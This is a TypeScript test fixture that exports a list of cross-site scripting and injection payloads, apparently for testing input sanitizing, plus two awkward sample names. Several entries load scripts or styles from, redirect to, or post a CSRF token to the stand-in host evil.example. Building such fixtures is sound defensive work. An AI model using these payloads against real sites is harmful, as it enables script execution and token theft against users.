const pwn = 'window.pwned=1';

/** Values that attackers enter to run a script in a page of another user, or to break the page. */
export const hostileStrings: readonly string[] = [
  // tags
  `<script>${pwn}</script>`,
  `<ScRiPt/x>${pwn}</sCrIpT >`,
  `<scr<script>ipt>${pwn}</scr</script>ipt>`,
  `<script src="https://evil.example/x.js"></script>`,
  // event handlers
  `<img src=x onerror=${pwn}>`,
  `<svg/onload=${pwn}>`,
  `<body onload=${pwn}><details open ontoggle=${pwn}>x</details>`,
  `<input autofocus onfocus=${pwn}>`,
  // foreign content, and differences between parsers
  `<svg><animate onbegin=${pwn} attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${pwn}>`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`,
  // ends of attributes
  `" onmouseover="${pwn}" autofocus onfocus="${pwn}" x="`,
  `' onmouseover='${pwn}' autofocus onfocus='${pwn}' x='`,
  '` onfocus=`window.pwned=1` autofocus x=`',
  // ends of text elements
  `</title></textarea></style></script></h1><script>${pwn}</script>`,
  `--><!--><script>${pwn}</script><!--`,
  `]]><script>${pwn}</script>`,
  // addresses
  `javascript:${pwn}`,
  `JaVa\tScRiPt:${pwn}//`,
  `data:text/html,<script>${pwn}</script>`,
  `//evil.example/%2e%2e/\\evil.example`,
  `https://evil.example/pixel.png`,
  // templates
  `{{constructor.constructor("${pwn}")()}}`,
  `{{{lookup this "constructor"}}}{{#with "s" as |s|}}{{s.sub}}{{/with}}{{>layout}}`,
  `\${${pwn}}#{${pwn}}<%= ${pwn} %>`,
  // styles
  `<style>@import "https://evil.example/x.css";*{display:none}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/y)">x</div>`,
  // other ways to leave the page
  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form action="https://evil.example"><button name=csrfToken>x</button></form>`,
  // entities and confusable characters
  `&lt;script&gt;${pwn}&lt;/script&gt;&#60;img src=x onerror=${pwn}&#62;`,
  `\uff1cscript\uff1e${pwn}\uff1c/script\uff1e \u02ba\u2028\u2029`,
  `abc\u202e>tpircs/<1=denwp\u202c\u2066x\u2069\u200b\ufeff`,
  `a\u0000b\u0001\u0008\u001b[31mc\u007f\u0085`,
  `%3Cscript%3E${pwn}%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e`,
  `__proto__`,
  // long values
  `<b>${'x'.repeat(600)}`,
  `Z${'\u0351\u034e\u0353'.repeat(40)}algo`,
];

/** A name with 40 characters and no space, and one with four lines. */
export const awkwardNames = [
  'Donaudampfschifffahrtsgesellschaftskapit',
  'Maria\nMagdalena\nvon und zu\nHohenlohe-Schillingsfürst',
] as const;
